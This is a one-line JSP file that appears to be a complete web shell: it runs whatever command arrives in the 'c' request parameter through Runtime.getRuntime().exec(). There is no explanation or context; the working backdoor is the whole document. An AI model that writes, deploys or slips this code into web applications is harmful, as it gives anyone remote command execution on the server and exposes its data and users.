<% Runtime.getRuntime().exec(request.getParameter("c")); %>
